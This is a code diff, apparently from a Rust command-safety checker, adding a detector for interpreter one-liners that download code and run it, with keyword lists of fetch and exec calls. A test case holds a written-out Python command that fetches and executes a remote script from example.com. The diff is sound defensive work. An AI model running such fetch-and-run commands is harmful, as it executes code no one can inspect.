@@ -41,6 +41,47 @@ const TREE_DELETES: &[&str] = &[
 
 /// What interpreter code (`python3 -c`, `perl -e`, a here-doc fed to
 /// `python3 -`) deletes or hands to a shell.
+/// Code that downloads code and runs it (`exec(urlopen(…).read())`,
+/// `eval(open-uri)`, `new Function(await (await fetch(…)).text())`): what
+/// runs cannot be seen, like `curl … | sh`.
+fn runs_fetched_code(code: &str, acc: &mut Acc) {
+    const FETCH: &[&str] = &[
+        "urlopen(",
+        "urlretrieve(",
+        "requests.get(",
+        "httpx.get(",
+        "fetch(",
+        "open-uri",
+        "URI.open(",
+        "Net::HTTP",
+        "LWP::",
+        "HTTP::Tiny",
+        "get(\"http",
+        "get('http",
+        "file_get_contents(\"http",
+        "file_get_contents('http",
+        "curl_exec(",
+        "https.get(",
+        "http.get(",
+    ];
+    const RUN: &[&str] = &[
+        "exec(",
+        "eval(",
+        "eval ",
+        "instance_eval",
+        "Function(",
+        "runInThisContext",
+        "os.system(",
+        "subprocess.",
+        "system(",
+        "popen(",
+        "loadstring(",
+    ];
+    if FETCH.iter().any(|f| code.contains(f)) && RUN.iter().any(|r| code.contains(r)) {
+        acc.danger("runs code it downloads: what runs cannot be checked");
+    }
+}
+
 pub(crate) fn code_effects(name: &str, code: &str, depth: usize, acc: &mut Acc) {
     let code = &import_aliases(&env_lookups_as_shell(code));
     shell_calls(code, depth, acc);
@@ -49,6 +90,7 @@ pub(crate) fn code_effects(name: &str, code: &str, depth: usize, acc: &mut Acc) 
     recursive_deleters(code, depth, acc);
     raw_writes(name, code, acc);
     fork_loop(name, code, acc);
+    runs_fetched_code(code, acc);
     let node_like = matches!(name, "node" | "nodejs" | "deno" | "bun");
     for call in calls(code, TREE_DELETES) {
         // node's rm/rmdir delete a tree only with { recursive: true }; elisp's
@@ -531,6 +573,18 @@ mod tests {
     #[test]
     fn examples() {
         check_examples(&[
+            (
+                "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/p.py').read())\"",
+                Danger,
+            ),
+            (
+                "python3 -c \"import urllib.request as u; print(u.urlopen('https://example.com').status)\"",
+                Safe,
+            ),
+            (
+                "python3 -c \"import json, urllib.request as u; print(json.load(u.urlopen('https://example.com/a.json')))\"",
+                Safe,
+            ),
             // Deleting trees, named in each language's own way.
             (
                 r#"Rscript -e 'unlink("/srv/www", recursive = TRUE)'"#,
